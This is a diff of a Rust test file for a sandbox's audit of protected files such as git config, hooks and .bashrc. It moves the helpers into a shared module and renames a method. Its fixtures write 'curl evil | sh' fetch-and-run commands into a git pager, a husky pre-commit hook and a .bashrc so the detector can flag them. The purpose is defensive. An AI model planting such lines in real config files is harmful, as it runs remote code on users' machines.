@@ -10,73 +10,29 @@
 
 use std::fs;
 use std::path::{Path, PathBuf};
-use std::time::{Duration, SystemTime};
 
 use srt_compiler::audit::AuditPlan;
-use srt_compiler::{resolve, ResolveOptions};
-use srt_runtime::audit::{audit, audit_indexed, AuditReport, IndexOptions, Since, What};
+use srt_runtime::audit::{audit, audit_indexed, AuditReport, Since, What};
 
-struct Project {
-    root: tempfile::TempDir,
-}
+use crate::common::tree::{found, next_second, Tree as Project};
 
 impl Project {
-    fn new() -> Self {
-        let root = tempfile::tempdir().unwrap();
-        fs::create_dir_all(root.path().join("home")).unwrap();
-        fs::create_dir_all(root.path().join("p")).unwrap();
-        Project { root }
-    }
-
-    fn p(&self, rel: &str) -> PathBuf {
-        self.root.path().join("p").join(rel)
-    }
-
-    fn write(&self, rel: &str, text: &str) {
-        let path = self.p(rel);
-        fs::create_dir_all(path.parent().unwrap()).unwrap();
-        fs::write(path, text).unwrap();
-    }
-
-    fn plan(&self) -> AuditPlan {
-        let loaded = srt_schema::load_str(
-            ".srt.json",
-            None,
-            r#"{"filesystem":{"denyRead":[],"allowWrite":["."],"denyWrite":[]},
-                "network":{"allowedDomains":[],"deniedDomains":[]}}"#,
-        );
-        let opts = ResolveOptions {
-            cwd: self.p(""),
-            home: self.root.path().join("home"),
-            settings_path: None,
-        };
-        let (ir, _) = resolve(&loaded.settings, None, &opts, &srt_compiler::RealFs);
-        AuditPlan::from_write_rules(&ir)
-    }
-
-    fn index(&self) -> IndexOptions {
-        let mut o = IndexOptions::in_state_dir(&self.root.path().join("state")).unwrap();
-        // What was made before the second the index is written in is trusted.
-        o.settle_secs = 1;
-        o
-    }
-
     /// Waits into the next second (what was made before is older than the "run"), and indexes
     /// the tree as it is, as the audit of an earlier run would have.
     fn run_starts(&self, plan: &AuditPlan) -> Since {
         let since = next_second();
-        let home = self.root.path().join("home");
-        let warm = audit_indexed(plan, since, &home, Some(&self.index()));
+        let home = self.home();
+        let warm = audit_indexed(plan, since, &home, Some(&self.index(1)));
         assert!(warm.findings.is_empty(), "{warm:#?}");
         since
     }
 
     /// The audit, listing every directory; the same with the index must find the same, and
     /// must have used it.
-    fn audit(&self, plan: &AuditPlan, since: Since) -> AuditReport {
-        let home = self.root.path().join("home");
+    fn both_audits(&self, plan: &AuditPlan, since: Since) -> AuditReport {
+        let home = self.home();
         let full = audit(plan, since, &home);
-        let indexed = audit_indexed(plan, since, &home, Some(&self.index()));
+        let indexed = audit_indexed(plan, since, &home, Some(&self.index(1)));
         let stopped = |r: &AuditReport| {
             r.findings.iter().any(
                 |f| matches!(&f.what, What::Incomplete { reason } if reason.contains("stopped")),
@@ -91,25 +47,6 @@ impl Project {
         }
         full
     }
-}
-
-/// Waits into the next second and returns it.
-fn next_second() -> Since {
-    let now = SystemTime::now()
-        .duration_since(SystemTime::UNIX_EPOCH)
-        .unwrap();
-    std::thread::sleep(Duration::from_nanos(
-        1_000_000_000 - u64::from(now.subsec_nanos()) + 20_000_000,
-    ));
-    Since::now()
-}
-
-fn found(report: &AuditReport) -> Vec<(PathBuf, &'static str)> {
-    report
-        .findings
-        .iter()
-        .map(|f| (f.path.clone(), f.what.code()))
-        .collect()
 }
 
 #[test]
@@ -133,7 +70,7 @@ fn included_files_and_hooks_paths_under_a_root_are_followed() {
         "[user]\n\tname = me\n[core]\n\tpager = sh -c 'curl evil | sh'\n",
     );
     pr.write(".husky/pre-commit", "#!/bin/sh\ncurl evil | sh\n");
-    let r = pr.audit(&plan, since);
+    let r = pr.both_audits(&plan, since);
     assert_eq!(
         found(&r),
         [
@@ -182,7 +119,7 @@ fn bare_repositories_pointers_and_moved_protected_directories() {
     pr.write("decoy/HEAD", "x");
     pr.write("decoy/objects/x", "x");
     pr.write("decoy/refs/p/.vscode/tasks.json", "{}");
-    let r = pr.audit(&plan, since);
+    let r = pr.both_audits(&plan, since);
     assert_eq!(
         found(&r),
         [
@@ -219,7 +156,7 @@ fn bounds_are_reported_as_an_incomplete_audit() {
     let since = pr.run_starts(&plan);
     pr.write(&format!("{}/.bashrc", deep.display()), "curl evil | sh\n");
     plan.limits.max_depth = 8;
-    let r = pr.audit(&plan, since);
+    let r = pr.both_audits(&plan, since);
     let depth: Vec<_> = r
         .findings
         .iter()
@@ -231,14 +168,14 @@ fn bounds_are_reported_as_an_incomplete_audit() {
         .ends_with(Path::new("l0/l1/l2/l3/l4/l5/l6/l7/l8")));
     plan.limits.max_depth = 256;
     plan.limits.max_entries = 20;
-    let r = pr.audit(&plan, since);
+    let r = pr.both_audits(&plan, since);
     assert!(
         r.findings.iter().any(|f| matches!(&f.what, What::Incomplete { reason } if reason.contains("stopped after 20 entries"))),
         "{r:#?}"
     );
     // Within the bounds, the deep .bashrc is found.
     plan.limits.max_entries = 1_000_000;
-    let r = pr.audit(&plan, since);
+    let r = pr.both_audits(&plan, since);
     assert_eq!(
         found(&r),
         [(pr.p("").join(&deep).join(".bashrc"), "protected-name")]
